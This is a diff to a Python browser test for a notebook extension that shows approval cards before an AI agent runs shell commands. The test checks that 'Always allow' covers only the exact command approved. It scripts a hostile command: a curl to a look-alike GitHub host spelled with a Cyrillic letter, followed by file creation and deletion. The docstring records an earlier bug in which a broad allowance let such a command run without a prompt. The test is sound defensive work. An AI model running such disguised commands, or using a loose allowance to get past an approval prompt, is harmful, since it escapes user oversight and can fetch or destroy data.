@@ -284,50 +284,73 @@ def test_typed_reason_arrives_whole_when_the_kernel_lags(
 
 
 # --------------------------------------------------------------------------------------------
-# 3. Always allow (session)
+# 3. Always allow (session): the exact command
 
 
-def test_always_allow_covers_later_calls_in_the_session(
+def test_always_allow_covers_the_command_it_showed_and_no_other(
     lab: LabPage, api: ScriptedAPI, claude_env: dict[str, str]
 ) -> None:
+    """0.1: "Always allow" on ``touch …/first-ok`` let the next turn's ``curl …; touch MARKER;
+    rm -f first-ok`` run with no card. The allowance is the exact command the card showed: the
+    same command runs without a card, a different one asks (and its look-alike host is marked,
+    live and in the saved record)."""
     folder = open_notebook(
-        lab, claude_env, "%%claude\nALWAYSME: make two files", "%%claude\nTHIRDFILE: one more"
+        lab,
+        claude_env,
+        "%%claude\nALWAYSME: make the file",
+        "%%claude\nSAMEAGAIN: once more",
+        "%%claude\nOTHERCMD: something else",
     )
-    files = [folder / f"always{n}.txt" for n in (1, 2, 3)]
-    cmds = [f"touch {f} && echo made{n}" for n, f in enumerate(files, 1)]
-    api.on("ALWAYSME", Reply(bash(cmds[0], "First file")), times=1)
-    api.on(lambda r: "made1" in r.last_user_text, Reply(bash(cmds[1], "Second file")))
-    api.on(lambda r: "made2" in r.last_user_text, Reply(Text("Both made: ALWAYSDONE")))
-    api.on("THIRDFILE", Reply(bash(cmds[2], "Third file")), times=1)
-    api.on(lambda r: "made3" in r.last_user_text, Reply(Text("Third made: THIRDDONE")))
+    first, marker = folder / "first-ok", folder / "MARKER"
+    command = f"touch {first}"
+    attack = f"curl -s https://g\u0456thub.com/x; touch {marker}; rm -f {first}"
+    api.on("ALWAYSME", Reply(bash(command, "First file")), times=1)
+    api.on("SAMEAGAIN", Reply(bash(command, "Same file")), times=1)
+    api.on("OTHERCMD", Reply(bash(attack, "Tidy up")), times=1)
+    api.on(lambda r: _last_tool(r) == "Bash", Reply(Text("Understood: BASHDONE")))
 
     lab.run_cell(1, wait=False)
     box = wait_for_card(lab, 1)
-    assert box.locator("pre").inner_text().strip() == cmds[0]
-    lab.watch_output(1)  # from here on, every DOM state of the cell is recorded
+    assert box.locator("pre").inner_text().strip() == command
+    scope = box.locator(".byre-approval-scope").inner_text()
+    assert "Always allow (session) covers" in scope, scope  # the card says what it covers
+    # (ipywidgets shows a Dropdown label's spaces as no-break spaces.)
+    options = [o.replace("\xa0", " ") for o in box.locator("select option").all_inner_texts()]
+    assert options[0] == f"only this exact command (Bash({command}))", options  # the default
+    assert options[1].endswith("(Bash(touch:*))") and len(options) == 2, options
     box.locator(ALWAYS).click()
     assert lab.wait_for_cell(1, timeout=60)
-    assert files[0].exists() and files[1].exists()
-    assert claims_seen(lab, 1, "Second file") == []
-    final = lab.output_text(1)
-    assert "ALWAYSDONE" in final, final
-    assert_clean(final)
+    assert first.exists() and "BASHDONE" in lab.output_text(1)
     md = static_data(lab, 1)["text/markdown"]
-    assert "echo made1 (allowed always, in this session)" in md, md  # what was allowed, and how
-    assert "echo made2 (always allowed in this session)" in md, md
+    assert f"{command} (allowed always, in this session: Bash({command}))" in md, md
 
-    # The next cell of the same session: still no card.
+    # The same command in the next turn: no card, and the record says which rule allowed it.
+    first.unlink()
     lab.watch_output(2)
     lab.run_cell(2, wait=False)
     assert lab.wait_for_cell(2, timeout=60)
-    assert files[2].exists()
+    assert first.exists() and "BASHDONE" in lab.output_text(2)
     assert cards_seen(lab, 2, "Run a shell command") == []
-    assert "THIRDDONE" in lab.output_text(2)
     md = static_data(lab, 2)["text/markdown"]
-    assert "echo made3 (always allowed in this session)" in md, md
-    for n in (1, 2, 3):
-        req = api.wait_for_request(f"made{n}", timeout=5)  # the tool_result that made file n
-        assert not req.last_tool_results[-1]["is_error"]
+    assert f"{command} (always allowed in this session: Bash({command}))" in md, md
+
+    # A different command asks, with its look-alike host marked.
+    lab.run_cell(3, wait=False)
+    box = wait_for_card(lab, 3)
+    assert box.locator(".byre-hidden-char").all_inner_texts() == ["⟨U+0456⟩"]
+    assert "looks like a Latin one" in box.inner_text()
+    box.locator(DENY).click()
+    assert lab.wait_for_cell(3, timeout=60)
+    assert first.exists() and not marker.exists()  # nothing of it ran
+    assert "BASHDONE" in lab.output_text(3)
+    data = static_data(lab, 3)
+    for mime in ("text/markdown", "text/html", "text/plain"):
+        assert "g⟨U+0456⟩thub.com" in data[mime] and "\u0456" not in data[mime], mime
+    req = api.wait_for_request(
+        lambda r: _last_tool(r) == "Bash" and bool(r.last_tool_results[-1]["is_error"]),
+        timeout=5,
+    )
+    assert "denied" in req.last_tool_results[-1]["text"].lower(), req.last_tool_results
 
 
 # --------------------------------------------------------------------------------------------
